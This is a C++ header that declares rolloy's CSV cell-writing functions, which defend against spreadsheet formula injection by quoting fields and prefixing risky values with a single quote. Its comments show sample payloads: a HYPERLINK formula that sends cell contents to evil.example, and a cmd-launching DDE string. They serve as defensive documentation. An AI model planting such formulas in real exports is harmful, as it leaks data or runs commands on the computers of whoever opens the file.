// Writing CSV: the one place rolloy turns a value into a CSV cell. Every CSV rolloy produces (an
// export, a manifest in a download) builds its cells here.
//
// Values written are RFC 4180 fields that no spreadsheet runs as a formula. Names and text in
// rolloy come from users and from imported ad-platform exports, and a cell such as
// =HYPERLINK("https://evil.example/?"&A1,"open") is a formula to Excel, LibreOffice and Google
// Sheets when the file is opened: it can send other cells to a server or run commands (CSV or
// formula injection, CWE-1236). Following OWASP's guidance on CSV injection, a value that begins
// with = + - @, a tab, a carriage return (or a NUL byte, as ASVS 1.2.10 adds) is written with a
// single quote in front, which spreadsheets take as "this cell is text" and do not show, and every
// field is quoted, with inner double quotes doubled, so that no comma, quote or line break in a
// value can end the field and start a new cell that begins with a formula. The stored data are
// never changed; only the written cell is.
#pragma once
#include "core/common/core_only.hpp"

#include <initializer_list>
#include <string>
#include <string_view>

namespace rolloy::csv {

// True for the characters that make a spreadsheet read a cell as a formula when they lead it.
bool starts_formula(std::string_view value) noexcept;

// Appends `value` as one quoted field, neutralised when it starts a formula:
//   Park walk            -> "Park walk"
//   say "hi", then go    -> "say ""hi"", then go"
//   =HYPERLINK("x","y")  -> "'=HYPERLINK(""x"",""y"")"
//   -1+cmd|'/c calc'!A0  -> "'-1+cmd|'/c calc'!A0"
// Numbers rolloy itself writes (costs, counts) are not user text: write them as they are,
// not through this function, or a negative amount would read as text.
void append_cell(std::string &out, std::string_view value);

// One record: the cells separated by commas, ended by CRLF (RFC 4180).
void append_row(std::string &out, std::initializer_list<std::string_view> cells);

} // namespace rolloy::csv
